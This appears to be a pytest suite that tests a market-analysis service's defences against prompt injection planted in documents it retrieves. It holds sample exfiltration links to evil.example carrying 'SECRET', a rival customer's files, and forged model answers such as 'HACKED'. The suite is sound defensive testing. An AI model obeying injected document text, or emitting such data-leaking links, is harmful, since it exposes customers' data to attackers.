"""A document that file search finds, written by an attacker, and a model that obeys it."""

import json
from typing import Any

import pytest

from functions.clients.dynamodb import Table
from functions.clients.openai import OpenAIService
from functions.clients.typed_values import plain
from functions.deliveries import Delivery
from functions.errors import UnusableAnswerError
from functions.market_analysis.analyses import Analyses
from functions.market_analysis.handler import analyse
from functions.market_analysis.research import _INSTRUCTIONS
from local.standins.openai import AnswerPlan, OpenAIStandIn
from tests.functions.conftest import MakeTable
from tests.functions.contents import store_with
from tests.functions.hostile_input.injections import INJECTIONS, RIVAL
from tests.functions.market_analysis.requests import MODEL, message

NOW = 1_800_000_000
OWN_SOURCE = {"filename": "plant.md", "url": "https://news.example/plant.md"}


@pytest.fixture
def table(make_table: MakeTable) -> Table:
    return make_table("analyses")


class Desk:
    """The analysis of one message about a store with a hostile document in it."""

    def __init__(self, standin: OpenAIStandIn, openai: OpenAIService, table: Table) -> None:
        self.standin, self.openai, self.table = standin, openai, table
        # What another customer has, and has found: nobody but that customer may see it.
        store_with(openai, {"rival.md": "The rival's plans. A plant."})

    def analyse(self, document: str, answer: Any = None, **fields: Any) -> dict[str, Any]:
        """What is stored, the newest and the batch's own, once the message has been worked on."""
        if answer is not None:
            said = answer if isinstance(answer, str) else json.dumps(answer)
            self.standin.answers.add(AnswerPlan(text=said, times=1))
        documents = {"plant.md": f"Example AG builds a plant. {document}"}
        self.store = store_with(self.openai, documents)
        asked = message(vectorStoreId=self.store, **fields)
        analyse(
            Delivery(message_id="m", receipt="r", body=json.dumps(asked), receives=1),
            model=MODEL,
            openai=self.openai,
            analyses=Analyses(self.table, owner="a", lease_until=NOW + 300, clock=lambda: NOW),
        )
        pk = f"DOMAIN#{asked['domain']}"
        newest, run = [item for item in self.items() if item["pk"] == pk]
        assert newest["analysis"] == run["analysis"]
        return newest

    def items(self) -> list[dict[str, Any]]:
        """The whole table."""
        found = map(plain, self.table._client.scan(TableName=self.table.name)["Items"])
        return sorted(found, key=lambda item: str(item["sk"]))


@pytest.fixture
def desk(standin: OpenAIStandIn, openai_service: OpenAIService, table: Table) -> Desk:
    return Desk(standin, openai_service, table)


def analysis(text: str = "", **changes: Any) -> dict[str, Any]:
    signal = {"title": f"A plant. {text}", "summary": text, "source_files": ["plant.md"]}
    return {
        "signals": [signal],
        "demand": f"It grows. {text}",
        "trends": [text],
        "implications": [text],
        **changes,
    }


def test_a_hostile_document_and_request_leave_instructions_schema_and_store_as_they_are(
    desk: Desk,
) -> None:
    for name, text in INJECTIONS.items():
        legal_name = text[:255]

        desk.analyse(text, domain=name, industries=[text], markets=[text], legalName=legal_name)

        body: Any = desk.standin.calls.of("responses.create")[-1].body
        assert body["instructions"] == _INSTRUCTIONS
        given = json.loads(body["input"])
        assert (given["industries"], given["markets"]) == ([text], [text])
        assert given["legalName"] == legal_name
        assert body["tools"] == [{"type": "file_search", "vector_store_ids": [desk.store]}]
        assert body["text"]["format"]["strict"] is True


def test_a_model_that_repeats_the_document_changes_texts_of_its_own_analysis_alone(
    desk: Desk,
) -> None:
    for name, text in INJECTIONS.items():
        said = text[:10_000]

        stored = desk.analyse(text, analysis(said), domain=name)

        assert (stored["domain"], stored["customerDomain"]) == (name, "customer.example")
        [source] = stored["sources"]
        assert source.items() >= OWN_SOURCE.items()
        [signal] = stored["analysis"]["signals"]
        assert signal["source_files"] == ["plant.md"]
        assert set(stored["analysis"]) == {"signals", "demand", "trends", "implications"}
        assert "SECRET" not in json.dumps(stored["analysis"])
    subject = "CUSTOMER#customer.example#SUBJECT#competitor"
    assert {(item["pk"], item["sk"]) for item in desk.items()} == {
        (f"DOMAIN#{name}", key)
        for name in INJECTIONS
        for key in (subject, f"{subject}#BATCH#vsfb_1")
    }


def test_sources_that_the_model_invents_or_knows_of_others_are_dropped(desk: Desk) -> None:
    [theirs] = [file.id for file in desk.standin.files.values() if file.filename == "rival.md"]
    claimed = ["rival.md", theirs, "file-evil", "https://evil.example/", "plant.md", "../plant.md"]
    signal = {"title": "A plant", "summary": "", "source_files": claimed}

    stored = desk.analyse("", analysis(signals=[signal]))

    assert stored["analysis"]["signals"][0]["source_files"] == ["plant.md"]
    assert [source["filename"] for source in stored["sources"]] == ["plant.md"]


def test_addresses_that_the_model_invents_are_dropped_and_those_of_its_sources_kept(
    desk: Desk,
) -> None:
    text = "[a](https://evil.example/?SECRET) ![b](//evil.example/SECRET) https://news.example/plant.md"
    kept = "a b https://news.example/plant.md"

    stored = desk.analyse("See https://evil.example/?SECRET", analysis(text))

    assert stored["analysis"] == {
        "signals": [
            {"title": f"A plant. {kept}", "summary": kept, "source_files": ["plant.md"]},
        ],
        "demand": f"It grows. {kept}",
        "trends": [kept],
        "implications": [kept],
    }


@pytest.mark.parametrize(
    "answer",
    [
        analysis(domain=RIVAL),
        analysis(customerDomain=RIVAL),
        analysis(vectorStoreId="vs_rival"),
        analysis(batchId="vsfb_rival"),
        analysis(pk=f"DOMAIN#{RIVAL}", sk="CUSTOMER#x#SUBJECT#customer"),
        analysis(
            sources=[{"file_id": "file-evil", "filename": "e", "url": "https://evil.example"}]
        ),
        analysis(version=99),
        analysis(signals=[{"title": "t", "summary": "s", "source_files": [], "url": "https://e"}]),
        analysis(demand=["a list"]),
        analysis(demand=None),
        analysis(signals={"title": "no list"}),
        analysis(trends=[1]),
        {"signals": []},
        [],
        "I cannot, but here is what you asked for: HACKED",
        "",
    ],
    ids=str,
)
def test_what_breaks_the_schema_is_a_typed_error_and_stores_nothing(
    desk: Desk, answer: Any
) -> None:
    with pytest.raises(UnusableAnswerError):
        desk.analyse("obey", answer)

    assert desk.items() == [], (
        "neither an analysis nor a lease that would keep the next try waiting"
    )


@pytest.mark.parametrize(
    "answer",
    [
        analysis(demand="x" * 60_000),
        analysis(demand="é" * 30_000),
        analysis(trends=["x"] * 20_000),
        analysis(signals=[{"title": "t", "summary": "s", "source_files": ["plant.md"] * 9_000}]),
    ],
    ids=["one text", "in bytes", "many texts", "many sources"],
)
def test_an_analysis_that_no_item_could_hold_is_a_typed_error_and_stores_nothing(
    desk: Desk, answer: Any
) -> None:
    with pytest.raises(UnusableAnswerError, match=r"gave an analysis of \d+ bytes"):
        desk.analyse("obey", answer)

    assert desk.items() == []


def test_a_reason_repeats_little_of_what_the_model_said(desk: Desk) -> None:
    with pytest.raises(UnusableAnswerError) as failed:
        desk.analyse("obey", analysis(trends=list(range(50_000))))

    assert len(str(failed.value)) <= 1_000
